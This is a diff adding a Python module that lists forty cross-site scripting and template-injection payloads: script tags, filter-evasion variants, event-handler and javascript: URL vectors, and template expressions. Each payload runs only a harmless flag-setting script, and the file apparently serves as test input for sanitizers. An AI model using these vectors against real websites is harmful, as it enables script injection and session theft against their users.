@@ -1,0 +1,48 @@
+"""Forty texts that run a script where text is taken for markup, an address or a template."""
+
+from __future__ import annotations
+
+HURT = "window.hurt=1"
+
+VECTORS = [
+    f"<script>{HURT}</script>",
+    f"<SCRIPT SRC=data:text/javascript,{HURT}></SCRIPT>",
+    f"<scr<script>ipt>{HURT}</scr</script>ipt>",
+    f"</script><script>{HURT}</script>",
+    f"</title><script>{HURT}</script>",
+    f"</style></textarea></noscript><script>{HURT}</script>",
+    f"--><script>{HURT}</script><!--",
+    f"]]><script>{HURT}</script><![CDATA[",
+    f"<img src=x onerror={HURT}>",
+    f"<img src=x onerror='{HURT}'//",
+    f'"><img src=x onerror="{HURT}">',
+    f"'><img src=x onerror='{HURT}'>",
+    f"`><img src=x onerror={HURT}>",
+    f"<img/src='x'/onerror={HURT}>",
+    f"<img\nsrc=x\nonerror\n=\n{HURT}>",
+    f"<image src=x onerror={HURT}>",
+    f"<svg onload={HURT}>",
+    f"<svg/onload={HURT}//",
+    f"<svg><script>{HURT}</script></svg>",
+    f"<svg><animate onbegin={HURT} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{HURT}'><text x=20 y=20>x</text></a>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={HURT}>",
+    f"<iframe src='javascript:{HURT}'></iframe>",
+    f"<iframe srcdoc='<script>parent.{HURT}</script>'></iframe>",
+    f"<object data='javascript:{HURT}'></object>",
+    f"<embed src='javascript:{HURT}'>",
+    f"<body onload={HURT}>",
+    f"<details open ontoggle={HURT}>x",
+    f"<input autofocus onfocus={HURT}>",
+    f"<video><source onerror={HURT}></video>",
+    f"<audio src=x onerror={HURT}>",
+    f"<marquee onstart={HURT}>x</marquee>",
+    f"<form><button formaction='javascript:{HURT}'>x</button></form>",
+    f"<a href='javascript:{HURT}' autofocus onfocus={HURT} tabindex=1>x</a>",
+    f"<div style='animation-name:x' onanimationstart={HURT}>x</div>",
+    f"<template shadowrootmode=open><img src=x onerror={HURT}></template>",
+    f"javascript:{HURT}",
+    f"data:text/html,<script>parent.{HURT}</script>",
+    "{{constructor.constructor('" + HURT + "')()}}",
+    "${" + HURT + "} #{" + HURT + "} <%= " + HURT + " %> {@:" + HURT + "}",
+]
